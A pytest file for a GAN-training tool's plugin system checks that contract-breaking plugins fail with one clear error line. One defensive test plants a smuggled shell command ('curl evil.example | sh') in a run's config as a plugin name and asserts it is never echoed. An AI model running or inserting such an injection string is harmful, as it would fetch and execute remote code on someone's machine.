"""Plugins that break the contract fail with one line naming the entry and its distribution.

A real distribution (tests/plugin_dist) is pip-installed; its ``testplugin-faulty`` entry point
registers entries that each break the contract in one way. The real console script runs them.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import TESTS

PLUGIN_DIST = TESTS / "plugin_dist"
WHO = "of plugin gan-zoo-testplugins 1.2.3"


@pytest.fixture
def gan_zoo(use_distribution, idx_dir, tmp_path):
    use_distribution(PLUGIN_DIST)
    env = {**os.environ, "GAN_ZOO_LOAD_PLUGINS": "testplugin-good,testplugin-faulty"}
    env.pop("GAN_ZOO_DEBUG", None)
    exe = Path(sys.executable).with_name("gan-zoo")

    def run(*args: str, extra_env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
        return subprocess.run(
            [str(exe), *args],
            capture_output=True,
            text=True,
            env={**env, **(extra_env or {})},
            timeout=300,
        )

    run.data = str(idx_dir.parent)
    run.out = tmp_path / "run"
    return run


def train_args(gan_zoo, *options: str) -> list[str]:
    return [
        "train",
        "tiny-gan",
        "fashion-mnist",
        "--data-dir",
        gan_zoo.data,
        "--steps",
        "2",
        "--batch-size",
        "8",
        "--device",
        "cpu",
        "--quiet",
        "--out",
        str(gan_zoo.out),
        *options,
    ]


def test_an_exception_inside_a_plugin_is_one_line_naming_it(gan_zoo):
    out = gan_zoo(*train_args(gan_zoo, "--generator", "raising-gen"))
    assert out.returncode == 2, out.stderr
    assert out.stderr == (
        f"Error: generator 'raising-gen' {WHO} raised RuntimeError: exploded on purpose; this is "
        "a bug in that plugin: report it to its authors, or run with --debug (or GAN_ZOO_DEBUG=1) "
        "for the traceback\n"
    )


@pytest.mark.parametrize("how", ["flag", "env"])
def test_debug_shows_the_traceback(gan_zoo, how):
    args = train_args(gan_zoo, "--generator", "raising-gen")
    if how == "flag":
        out = gan_zoo(*args, "--debug")
    else:
        out = gan_zoo(*args, extra_env={"GAN_ZOO_DEBUG": "1"})
    assert out.returncode == 1
    assert "Traceback (most recent call last)" in out.stderr
    assert "faulty.py" in out.stderr and "RuntimeError: exploded on purpose" in out.stderr


def test_errors_of_gan_zoo_itself_keep_their_one_line_under_no_debug(gan_zoo):
    out = gan_zoo("list", "losss")
    assert out.returncode == 2 and out.stderr.startswith("Error: unknown kind 'losss'")
    out = gan_zoo("list", "losss", "--debug")
    assert out.returncode == 1 and "UnknownNameError" in out.stderr


@pytest.mark.parametrize(
    ("option", "expected"),
    [
        (
            ["--generator", "wrong-size"],
            "Error: generator 'wrong-size' (gan-zoo-testplugins 1.2.3) breaks the plugin "
            "contract: it returned images of shape (2, 1, 32, 32) for 2 latents, but it declares "
            "28 px and 1 channel(s): expected (2, 1, 28, 28) (see docs/plugins.md#the-contract)",
        ),
        (
            ["--loss", "vector-loss"],
            "Error: loss 'vector-loss' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: its "
            "d_loss returned shape (2,); it must be a scalar (take the mean over the batch) (see "
            "docs/plugins.md#the-contract)",
        ),
        (
            ["--loss", "nan-loss"],
            "Error: loss 'nan-loss' (gan-zoo-testplugins 1.2.3) breaks the plugin contract: its "
            "d_loss is nan on the first batch; it must be finite "
            "(see docs/plugins.md#the-contract)",
        ),
        (
            ["--generator", "missing-target"],
            f"Error: generator 'missing-target' {WHO} cannot be loaded: its target "
            "'gan_zoo_testplugins.nowhere:Generator' fails with ModuleNotFoundError: "
            "No module named 'gan_zoo_testplugins.nowhere'; reinstall or report it to the "
            "plugin's authors",
        ),
    ],
    ids=["wrong-size", "vector-loss", "nan-loss", "missing-target"],
)
def test_a_contract_breach_is_one_line_before_training_starts(gan_zoo, option, expected):
    out = gan_zoo(*train_args(gan_zoo, *option))
    assert (out.returncode, out.stderr) == (2, expected + "\n")
    assert not (gan_zoo.out / "checkpoints").exists()  # nothing was trained


def test_the_good_entries_of_the_same_plugin_keep_working(gan_zoo):
    out = gan_zoo(*train_args(gan_zoo))
    assert out.returncode == 0, out.stderr
    assert (gan_zoo.out / "checkpoints" / "latest").is_file()


def test_a_run_whose_plugin_is_gone_names_it_everywhere_it_is_read(gan_zoo):
    assert gan_zoo(*train_args(gan_zoo)).returncode == 0  # tiny-gan and tiny-linear: the plugin's
    gone = {"GAN_ZOO_LOAD_PLUGINS": ""}  # the same machine after `pip uninstall`
    expected = (
        "model 'tiny-gan' comes from the plugin gan-zoo-testplugins 1.2.3 (per config.json), which "
        "is not installed; install it with: pip install 'gan-zoo-testplugins==1.2.3'"
    )
    out = gan_zoo("train", "--resume", str(gan_zoo.out), "--steps", "3", extra_env=gone)
    assert (out.returncode, out.stderr) == (2, f"Error: {expected}\n")
    generator = expected.replace("model 'tiny-gan'", "generator 'tiny-linear'")
    for command in (
        ["generate", str(gan_zoo.out), "--out", str(gan_zoo.out / "g.png")],
        ["evaluate", str(gan_zoo.out), "--metric", "fid"],
    ):
        out = gan_zoo(*command, extra_env=gone)
        assert out.returncode == 2 and out.stderr.count("\n") == 1, out.stderr
    out = gan_zoo("generate", str(gan_zoo.out), "--out", str(gan_zoo.out / "g.png"), extra_env=gone)
    assert out.stderr == f"Error: {generator}\n"
    out = gan_zoo("info", str(gan_zoo.out), "--json", extra_env=gone)
    assert out.returncode == 0 and json.loads(out.stdout)["missing"] == expected


def test_a_command_shaped_plugin_name_in_a_run_is_never_echoed(gan_zoo):
    assert gan_zoo(*train_args(gan_zoo)).returncode == 0
    latest = (gan_zoo.out / "checkpoints" / "latest").read_text().strip()
    for config in (
        gan_zoo.out / "config.json",
        gan_zoo.out / "checkpoints" / latest / "config.json",
    ):
        record = json.loads(config.read_text())
        record["plugins"]["model"] = "x'; curl evil.example | sh; echo ' 1.0"
        config.write_text(json.dumps(record))
    out = gan_zoo(
        "train",
        "--resume",
        str(gan_zoo.out),
        "--steps",
        "3",
        extra_env={"GAN_ZOO_LOAD_PLUGINS": ""},
    )
    assert out.returncode == 2 and "curl" not in out.stderr and "pip install" not in out.stderr
    assert "does not name its plugin in a valid form" in out.stderr
